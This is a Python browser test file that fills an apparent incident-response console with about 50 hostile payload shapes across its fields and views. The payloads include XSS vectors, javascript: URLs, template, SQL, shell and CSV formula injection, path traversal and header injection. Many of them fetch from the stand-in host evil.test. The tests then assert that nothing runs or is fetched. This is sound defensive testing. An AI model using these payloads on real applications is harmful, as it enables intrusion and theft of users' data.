"""2,000 hostile values in every field and view, in a real browser: none runs, none is fetched."""

from collections.abc import Iterator
from itertools import count, islice
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser

from luytre.cases.model import IncidentQuery
from luytre.core.actor import Actor
from luytre.core.alert import Alert, Reason
from luytre.core.organization import Scope
from luytre.processor import case_host
from tests.console.chromium import chromium, free_port, served, sight
from tests.console.installation import Installation, alert, signer

pytestmark = [pytest.mark.integration, pytest.mark.xdist_group("browser")]

ALERTS, FIELDS = 40, 50
CALL = "window.pwned=1,fetch('https://evil.test/{n}'),alert({n})"
SHAPES = (
    "<script>{c}</script>", "<ScRiPt src=https://evil.test/{n}.js></ScRiPt>",
    "<img src=x onerror={c}>", "<svg onload={c}>", "<svg><script>{c}</script></svg>",
    '"><img src=x onerror={c}>', "'><svg/onload={c}>", '" onmouseover={c} x="',
    "' autofocus onfocus={c} x='", "` onfocus={c}", "</title><script>{c}</script>",
    "</textarea><script>{c}</script>", "</style><script>{c}</script>", "</pre><img src=x onerror={c}>",
    "--><script>{c}</script>", "]]><script>{c}</script>", "javascript:{c}", "JaVaScRiPt:{c}",
    "java\tscript:{c}", "data:text/html,<script>{c}</script>", "vbscript:{c}",
    "{{{{constructor.constructor('{c}')()}}}}", "{{% raw %}}{{{{7*7}}}}{{% endraw %}}", "${{{c}}}",
    "#{{{c}}}", "<%= {c} %>", "<iframe srcdoc='<script>{c}</script>'>", "<base href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/{n}.css>", "<style>@import'https://evil.test/{n}'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/{n}'>", "<object data=https://evil.test/{n}>",
    "<form action=https://evil.test/{n}><input type=submit>", "<a href=javascript:{c}>x</a>",
    "<details open ontoggle={c}>", "<video><source onerror={c}>", "<math href=javascript:{c}>x",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-", "\u202e<script>{c}</script>", "\x00<script>{c}</script>\x1b[2J",
    "<scr\x00ipt>{c}</script>", "\ufeff<script>{c}</script>", "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}", "%3Cscript%3E{c}", "\\u003cscript\\u003e{c}", "=cmd|'/c calc'!A{n}",
    "../../../../etc/passwd?{n}", "$(touch /tmp/pwned{n})", "'; DROP TABLE incidents; --{n}",
    '<!--#exec cmd="{n}"-->', "\r\nSet-Cookie: pwned={n}",
)  # fmt: skip


def payloads() -> Iterator[str]:
    for number in count():
        call = CALL.format(n=number)
        yield from (shape.format(c=call, n=number) for shape in SHAPES)


def hostile_alerts() -> list[Alert]:
    every = payloads()
    made = []
    for number in range(1, ALERTS + 1):
        values = list(islice(every, FIELDS))
        event = {f"field.{n}": value for n, value in enumerate(values)}
        event |= {"host.name": values[0], "user.name": values[1], "source.ip": values[2],
                  "process.command_line": values[3], "host.asset.owner": values[4]}  # fmt: skip
        # A name of a field can be hostile too: some decoders keep an application's own.
        event[values[5]] = "a value"
        reasons = tuple(
            Reason(values[n], values[n + 1], "host.name", values[n + 2], values[n + 3], values[0])
            for n in range(6, 10)
        )
        one = alert(
            number, event, at=number * 300, title=values[11], rule=values[12], reasons=reasons,
            tags=(f"attack.t{values[13]}", values[14]), original="\n".join(values).encode(),
        )  # fmt: skip
        made.append(one)
    return made


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as started:
        yield started


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Installation]:
    folder, port = tmp_path_factory.mktemp("attacked"), free_port()
    with signer(folder):
        made = Installation(folder, url=f"http://localhost:{port}")
        made.fill(*hostile_alerts())
        decide(made)
        with served(made.app, port):
            yield made
        made.close()


def decide(made: Installation) -> None:
    """Write hostile text wherever a person can."""
    insider = Actor("<script>alert(1)</script>", frozenset({"analyst"}), Scope.everything(), "x")
    with case_host.case_database(made.config) as cases, made.app.state.house.bench() as bench:
        numbers = bench.incidents.numbers(IncidentQuery(), Scope.everything())
        for number, text in zip(numbers, payloads(), strict=False):
            bench.decisions.comment(insider, number, text)
            bench.decisions.add_task(insider, number, text, text)
            bench.decisions.assign(insider, number, text)
        for text in islice(payloads(), 0, 20):
            bench.decisions.save_view(insider, text, IncidentQuery(text=text))
        bench.keys.create(
            Actor("lan", frozenset({"analyst"}), Scope.everything(), "x"), SHAPES[2][:90], 9
        )
        assert cases.book.size()


def test_no_hostile_value_runs_or_fetches_in_any_view(
    browser: Browser, attacked: Installation
) -> None:
    fetched: list[str] = []
    complaints: list[str] = []
    paths = [f"/alerts/{number:08}" for number in range(1, ALERTS + 1)]
    paths += [f"/incidents/{number}" for number in range(1, ALERTS + 1)]
    paths += ["/incidents", "/incidents/many", "/alerts", "/runs", "/account"]
    paths += [f"/incidents?group={by}" for by in ("rule", "assignee", "organization")]
    for user in ("lan", "binh"):
        with sight(browser, attacked, user) as at:
            at.page.on("request", lambda sent: fetched.append(sent.url))
            for path in paths if user == "lan" else paths[::7]:
                page = at.open(path)
                assert page.evaluate("window.pwned") is None, path
                assert page.locator("main").count() == 1, path
            complaints += at.complaints

    assert complaints == []
    assert [url for url in fetched if not url.startswith(attacked.url)] == []


def test_a_hostile_address_runs_nothing(browser: Browser, attacked: Installation) -> None:
    with sight(browser, attacked, "lan") as at:
        for text in islice(payloads(), len(SHAPES)):
            given = quote(text, safe="")
            for path in (f"/incidents?text={given}&entity={given}", f"/alerts?rule={given}"):
                at.open(path)
                assert at.page.evaluate("window.pwned") is None

    assert at.complaints == []


def test_each_page_shows_the_values_it_was_given(attacked: Installation) -> None:
    page = attacked.browser("lan").get("/alerts/00000001").text

    assert "&lt;script&gt;window.pwned=1" in page
    assert "\\x1b[2J" in page
    assert "\x1b" not in page
